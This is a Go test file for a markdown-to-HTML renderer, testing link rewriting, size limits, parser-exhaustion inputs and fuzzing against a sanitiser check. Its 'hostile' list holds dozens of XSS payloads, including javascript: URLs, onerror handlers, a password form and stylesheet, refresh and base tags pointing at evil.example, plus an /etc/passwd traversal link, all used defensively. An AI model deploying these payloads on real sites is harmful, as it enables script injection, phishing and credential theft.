package markup

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"

	"ingot.dev/modules/fault"
	"ingot.dev/modules/golden"
)

// tree is a repository that has every file.
var tree = Options{
	Link:  func(path string) string { return "/project/acme/money/file/" + path },
	Image: func(path string) string { return "/project/acme/money/raw/" + path },
	Below: 2,
}

func render(t testing.TB, name, src string, o Options) string {
	t.Helper()
	out, err := Render(name, []byte(src), o)
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}

func TestRender(t *testing.T) {
	t.Parallel()
	sources, err := filepath.Glob("testdata/*.md")
	if err != nil || len(sources) == 0 {
		t.Fatal("no testdata", err)
	}
	for _, source := range sources {
		t.Run(source, func(t *testing.T) {
			t.Parallel()
			src, err := os.ReadFile(source)
			if err != nil {
				t.Fatal(err)
			}
			golden.Equal(t, filepath.Base(strings.TrimSuffix(source, ".md"))+".html", render(t, "README.md", string(src), tree))
		})
	}
}

func TestLinksAndImages(t *testing.T) {
	t.Parallel()
	in := tree
	in.Dir = "docs/en"
	for src, want := range map[string]string{
		`[a](b.md)`:                      `<p><a href="/project/acme/money/file/docs/en/b.md">a</a></p>`,
		`[a](../../../../etc/passwd)`:    `<p><a href="/project/acme/money/file/etc/passwd">a</a></p>`,
		`[a](/src/x.php#L12)`:            `<p><a href="/project/acme/money/file/src/x.php#L12">a</a></p>`,
		`[a](b.md#use)`:                  `<p><a href="/project/acme/money/file/docs/en/b.md#md-use">a</a></p>`,
		`[a](#use)`:                      `<p><a href="#md-use">a</a></p>`,
		`[a](https://b.example/c?d=1)`:   `<p><a href="https://b.example/c?d=1" rel="nofollow noopener noreferrer">a</a></p>`,
		`[a](//b.example)`:               `<p><a href="//b.example" rel="nofollow noopener noreferrer">a</a></p>`,
		`[a](mailto:b@c.example)`:        `<p><a href="mailto:b@c.example" rel="nofollow noopener noreferrer">a</a></p>`,
		`![a](b.png "t")`:                `<p><img title="t" src="/project/acme/money/raw/docs/en/b.png" alt="a" loading="lazy"/></p>`,
		`![a](https://b.example/c.svg)`:  `<p><a href="https://b.example/c.svg" rel="nofollow noopener noreferrer">a</a></p>`,
		`![](https://b.example/c.svg)`:   `<p><a href="https://b.example/c.svg" rel="nofollow noopener noreferrer">c.svg</a></p>`,
		`[![a](https://b.example/c)](d)`: `<p><a href="/project/acme/money/file/docs/en/d">a</a></p>`,
		`<a name="x">y</a>`:              `<p><a id="md-x">y</a></p>`,
	} {
		if got := strings.TrimSpace(render(t, "a.md", src, in)); got != want {
			t.Errorf("%s\n got %s\nwant %s", src, got, want)
		}
	}
}

// Without a tree around it, a text has no links into it and shows no pictures.
func TestAlone(t *testing.T) {
	t.Parallel()
	got := render(t, "a.md", "[a](b.md) ![c](d.png) [e](#f)", Options{})
	if want := "<p>a c <a href=\"#md-f\">e</a></p>\n"; got != want {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestPlain(t *testing.T) {
	t.Parallel()
	for _, name := range []string{"README", "README.txt", "README.rst", "md"} {
		got := render(t, name, "\ufeff# <b>\x00\xff", Options{})
		if want := `<pre tabindex="0"># &lt;b&gt;` + "\ufffd\ufffd</pre>"; got != want {
			t.Errorf("%s: got %q, want %q", name, got, want)
		}
	}
}

func TestTooLarge(t *testing.T) {
	t.Parallel()
	if _, err := Render("a.md", make([]byte, Limit+1), Options{}); !fault.Is(err, fault.TooLarge) {
		t.Errorf("got %v, want TooLarge", err)
	}
}

// hostile are texts that must do nothing in a README or a description.
var hostile = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<svg onload=alert(1)><script>alert(1)</script></svg>`,
	`<svg><style><img src=x onerror=alert(1)></style></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="a.png" onload="alert(1)" style="position:fixed">`,
	`<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`,
	`![a](data:image/png;base64,AAAA)`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href=" jav&#x09;ascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt&colon;alert(1)">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](<java` + "\n" + `script:alert(1)>)`,
	`[x](data:text/html,<script>alert(1)</script>)`,
	`[x](vbscript:msgbox(1))`,
	`<javascript:alert(1)>`,
	`<p style="background:url(https://evil.example/x)">x</p>`,
	`<style>@import "https://evil.example/x.css"; body{display:none}</style>`,
	`<link rel=stylesheet href=https://evil.example/x.css>`,
	`<meta http-equiv="refresh" content="0;url=https://evil.example">`,
	`<base href="https://evil.example/">`,
	`<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>">`,
	`<object data=x></object><embed src=x><applet></applet>`,
	`<form action="https://evil.example"><input name=password><button formaction=x>Sign in</button></form>`,
	`<input type=image src=https://evil.example/x>`,
	`<p id="content" name="content" class="flash bad">x</p><a id=said></a><img name=forms>`,
	`<h1 id="L1">x</h1>`,
	`<a href="#" onclick="alert(1)" target="_top" ping="https://evil.example">x</a>`,
	`<video src=x poster=https://evil.example/x autoplay><audio src=x><source srcset=x></video>`,
	`<img srcset="https://evil.example/x 1x" src="a.png">`,
	`<table background="https://evil.example/x"><tr><td>x`,
	`</div></main></body></html><div><p>x`,
	`<div><div><blockquote><ul><li>`,
	`<div><blockquote><plaintext>x`,
	`<div><xmp><img src=x onerror=alert(1)></xmp>`,
	`<textarea><script>alert(1)</script>`,
	`<!--><script>alert(1)</script>-->`,
	`<![CDATA[<script>alert(1)</script>]]>`,
	`<?php echo 1 ?><script>alert(1)</script>`,
	`<details ontoggle=alert(1) open>x</details>`,
	"```\"><script>alert(1)</script>\n<script>\n```",
	"```php onclick=x\n<?php '</code></pre><script>';\n```",
	`# <img src=x onerror=alert(1)>`,
	`| <script>a</script> | <b onclick=x>|` + "\n|-|-|\n",
	`[a]: javascript:alert(1) "t"` + "\n\n[a]",
	`[<img src=x onerror=alert(1)>](https://x.example)`,
	`<a href="https://x.example" rel="opener">x</a>`,
	`<template><script>alert(1)</script></template>`,
	`<select><option><script>alert(1)</script>`,
	`<a href="https://x.example/"><a href="https://y.example/">`,
	"\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
}

// Incident 33: none of them does anything.
func TestHostile(t *testing.T) {
	t.Parallel()
	for i, src := range hostile {
		harmless(t, fmt.Sprintf("hostile[%d] %q", i, src), render(t, "README.md", src, tree))
	}
}

// elements are those that the pages may have inside .prose.
var elements = strings.Fields(`p br hr h1 h2 h3 h4 h5 h6 div span blockquote ul ol li dl dt dd pre code kbd samp var
	strong b em i u s del ins sub sup mark small q cite abbr table caption thead tbody tfoot tr th td
	details summary figure figcaption a img`)

var attributes = strings.Fields(`id class title lang tabindex open start colspan rowspan href rel src alt loading width height`)

// harmless looks at HTML as a browser does: what is in it, and that what
// stands after it on the page is not inside it.
func harmless(t *testing.T, name, out string) {
	t.Helper()
	doc, err := html.Parse(strings.NewReader(`<!doctype html><html><head></head><body><div>` + out + `</div><i id="after"></i></body></html>`))
	if err != nil {
		t.Fatalf("%s: %v", name, err)
	}
	allowed, known := setOf(elements), setOf(attributes)
	after := false
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode {
			if n.Type == html.CommentNode {
				t.Errorf("%s: a comment in %s", name, out)
			}
			continue
		}
		switch n.Data {
		case "html", "head", "body":
			continue
		case "i":
			if attr(n, "id") == "after" {
				after = n.Parent.Data == "body"
				continue
			}
		}
		if !allowed[n.Data] || n.Namespace != "" {
			t.Errorf("%s: <%s> in %s", name, n.Data, out)
		}
		for _, a := range n.Attr {
			if !known[a.Key] {
				t.Errorf("%s: %s= in %s", name, a.Key, out)
			}
			lower := strings.ToLower(a.Val)
			switch a.Key {
			case "id":
				if !strings.HasPrefix(a.Val, prefix) {
					t.Errorf("%s: id %q", name, a.Val)
				}
			case "href":
				external := strings.HasPrefix(lower, "http:") || strings.HasPrefix(lower, "https:") ||
					strings.HasPrefix(lower, "mailto:") || strings.HasPrefix(lower, "//")
				if external && attr(n, "rel") != "nofollow noopener noreferrer" {
					t.Errorf("%s: rel %q in %s", name, attr(n, "rel"), out)
				}
				if !external && !strings.HasPrefix(a.Val, "/project/") && !strings.HasPrefix(a.Val, "#"+prefix) {
					t.Errorf("%s: href %q", name, a.Val)
				}
			case "src":
				if !strings.HasPrefix(a.Val, "/project/") {
					t.Errorf("%s: src %q", name, a.Val)
				}
			}
		}
	}
	if !after {
		t.Errorf("%s: what follows is swallowed or pushed out: %s", name, out)
	}
}

func setOf(words []string) map[string]bool {
	m := map[string]bool{}
	for _, w := range words {
		m[w] = true
	}
	return m
}

// Texts made to keep the parser busy end soon, and small. They are at the
// limit of size, where quadratic is minutes.
func TestBombs(t *testing.T) {
	t.Parallel()
	fill := func(piece string) string { return strings.Repeat(piece, Limit/len(piece)) }
	half := func(piece string) string { return strings.Repeat(piece, Limit/2/len(piece)) }
	grow := func(line func(i int) string) string {
		var b strings.Builder
		for i := 0; b.Len() < Limit-2000; i++ {
			b.WriteString(line(i % 1000))
		}
		return b.String()
	}
	bombs := map[string]string{
		"quotes":           fill(">"),
		"quotes apart":     fill("> "),
		"quotes on lines":  fill(strings.Repeat(">", maxDepth) + " a\n"),
		"items":            fill("- "),
		"numbered items":   fill("1. "),
		"items stepwise":   grow(func(i int) string { return strings.Repeat(" ", i) + "- a\n" }),
		"items by tabs":    grow(func(i int) string { return strings.Repeat("\t", i) + "- a\n" }),
		"brackets":         fill("["),
		"brackets closed":  half("[") + half("]"),
		"images":           fill("!["),
		"open links":       fill("[a]("),
		"open targets":     fill("[a](<b"),
		"open titles":      fill("[a](b \""),
		"brackets on rows": fill("[a](\n"),
		"brackets inside":  "- a\n" + fill("    - [a](\n"),
		"stars":            fill("*"),
		"stars and lines":  fill("*a_ "),
		"stars in items":   fill("- *a_ " + strings.Repeat("*a_ ", 100) + "\n"),
		"ticks":            grow(func(i int) string { return "e" + strings.Repeat("`", i) }),
		"angles":           fill("<"),
		"comments":         fill("<!--"),
		"declarations":     fill("<!A "),
		"instructions":     fill("<?"),
		"cdata":            fill("<![CDATA["),
		"wide table":       half("|a")[:Limit/2-2] + "\n" + half("|-"),
		"padded table":     strings.Repeat("|a", 1000) + "\n" + strings.Repeat("|-", 1000) + "\n" + half("|\n"),
		"padded by words":  strings.Repeat("|a", 100) + "\n" + strings.Repeat("|-", 100) + "\n" + half("a\n"),
		"many tables":      fill("|a|b|c\n|-|-|-\n|\n\n"),
		"definition":       "[a]: " + half("b")[:Limit/4] + "\n\n" + half("[a]\n\n"),
		"definitions":      grow(func(i int) string { return fmt.Sprintf("[%d]: x\n", i) }),
		"strikes":          fill("~~a "),
		"entities":         fill("&amp;"),
		"addresses":        fill("a@b.c "),
		"half an address":  strings.Repeat("a", Limit-1) + "@",
		"web addresses":    fill("http://a.b/c "),
		"open elements":    fill("<b>"),
		"open blocks":      fill("<div>\n"),
		"open formatting":  fill("<a><b><i><p>\n"),
		"open tables":      fill("<table><tr><td>\n"),
		"attributes":       "<p " + strings.Repeat("a=b ", Limit/4-8) + ">",
		"headings":         fill("# a\n"),
		"fences":           fill("```php\n$a\n```\n"),
		"a comment of php": "```php\n" + fill("/*")[:Limit-20] + "\n```",
		"comments of php":  "```php\n" + fill("/* 'a\n")[:Limit-20] + "\n```",
		"spaces":           fill(" "),
		"tabs":             fill("\t"),
		"lines":            fill("\n"),
		"one paragraph":    fill("a\n"),
	}
	for name, src := range bombs {
		if len(src) > Limit {
			t.Fatalf("%s is over the limit, so it proves nothing", name)
		}
		if len(src) < Limit/2 {
			t.Fatalf("%s is small, so it proves nothing", name)
		}
		begin := time.Now()
		out := render(t, "README.md", src, tree)
		took := time.Since(begin)
		t.Logf("%-18s %5d ms, %8d bytes", name, took.Milliseconds(), len(out))
		if took > 10*time.Second {
			t.Errorf("%s took %v", name, took)
		}
		if len(out) > 2*maxHTML {
			t.Errorf("%s made %d bytes", name, len(out))
		}
	}
}

// What people write is rendered, however long.
func TestTameEnough(t *testing.T) {
	t.Parallel()
	for name, src := range map[string]string{
		"a long list of links": strings.Repeat("- [name](https://a.example/b_c_d) - *what* it is (and `why`)\n", 5000),
		"a long change log":    strings.Repeat("## 1.0.0\n\n* Fix [#1](https://a.example/1), `a_b_c`\n* Add **x**\n\n", 4000),
		"a large table":        "|a|b|c|d|e|f\n|-|-|-|-|-|-\n" + strings.Repeat("|1|2|3|4|[x](y)|*6*\n", 1500),
		"a rule of many stars": "a\n\n" + strings.Repeat("* ", 38) + "\n\nb",
		"a long sample":        "```json\n" + strings.Repeat("{\"a\": [1, 2, 3]},\n", 2000) + "```\n",
	} {
		if len(src) > Limit {
			t.Fatalf("%s is over the limit", name)
		}
		if out := render(t, "README.md", src, tree); strings.HasPrefix(out, `<pre tabindex="0">`) && !strings.HasPrefix(out, `<pre tabindex="0"><code>`) {
			t.Errorf("%s is shown as plain text", name)
		}
	}
}

func FuzzRender(f *testing.F) {
	for _, src := range hostile {
		f.Add([]byte(src))
	}
	f.Fuzz(func(t *testing.T, src []byte) {
		out, err := Render("README.md", src, tree)
		if err != nil {
			return
		}
		harmless(t, "", string(out))
	})
}
